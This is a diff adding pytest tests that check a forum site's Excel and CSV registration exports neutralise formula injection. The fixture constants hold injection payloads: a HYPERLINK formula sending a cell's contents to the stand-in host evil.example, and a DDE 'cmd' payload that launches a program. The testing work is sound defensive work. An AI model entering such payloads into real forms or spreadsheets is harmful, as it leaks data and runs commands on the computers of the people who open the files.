@@ -171,3 +171,68 @@ def test_the_list_costs_the_same_queries_with_more_people(admin_client, forum):
     before = queries()
     RegistrationFactory.create_batch(20, forum=forum, status="waitlisted")
     assert queries() == before
+
+
+# What the second audit registered: each would run as a formula in Excel.
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&F3,"클릭")'
+FORMULA_ORGANIZATION = "+cmd|' /C calc'!A0"
+FORMULA_POSITION = "@SUM(1+1)"
+
+
+@pytest.fixture
+def formula_registration(forum):
+    return RegistrationFactory(
+        forum=forum,
+        name=FORMULA_NAME,
+        email="formula@example.kr",
+        organization=FORMULA_ORGANIZATION,
+        position=FORMULA_POSITION,
+        created_at=seoul(2020, 8, 5, 9, 0),
+    )
+
+
+def test_typed_formulas_stay_text_in_the_excel_list(admin_client, formula_registration):
+    response = admin_client.post(
+        EXPORT, {"forum": formula_registration.forum_id, "file_format": "xlsx", "reason": "명단"}
+    )
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    row = next(row for row in sheet.iter_rows(min_row=2) if row[5].value == "formula@example.kr")
+    assert [(cell.value, cell.data_type) for cell in row[1:4]] == [
+        (FORMULA_NAME, "s"),
+        (FORMULA_ORGANIZATION, "s"),
+        (FORMULA_POSITION, "s"),
+    ]
+    text_cells = [cell for line in sheet.iter_rows() for cell in line if isinstance(cell.value, str)]
+    assert len(text_cells) == 11 + 4 * 7 - 2  # the headers, seven texts in each of four rows, two without a phone
+    assert {cell.data_type for cell in text_cells} == {"s"}
+
+
+def test_typed_formulas_are_neutralised_in_the_csv_list(admin_client, formula_registration):
+    response = admin_client.post(
+        EXPORT, {"forum": formula_registration.forum_id, "file_format": "csv", "reason": "명단"}
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    row = next(row for row in rows if row[5] == "formula@example.kr")
+    assert row[1:4] == ["'" + FORMULA_NAME, "'" + FORMULA_ORGANIZATION, "'" + FORMULA_POSITION]
+    # The rest of the list is as it was: a text that does not start like a formula is untouched.
+    assert [row[1] for row in rows[1:]] == ["'" + FORMULA_NAME, "김광주", "이대기", "박취소"]
+
+
+@pytest.mark.parametrize(
+    ("typed", "written"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+82", "'+82"),
+        ("-3", "'-3"),
+        ("@me", "'@me"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("김=광주", "김=광주"),
+        ("", ""),
+    ],
+)
+def test_each_formula_start_is_prefixed_in_a_csv_cell(typed, written):
+    from forum_site.spreadsheets import csv_bytes
+
+    content = csv_bytes([[typed, 7, None]])
+    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig")))) == [[written, "7", ""]]
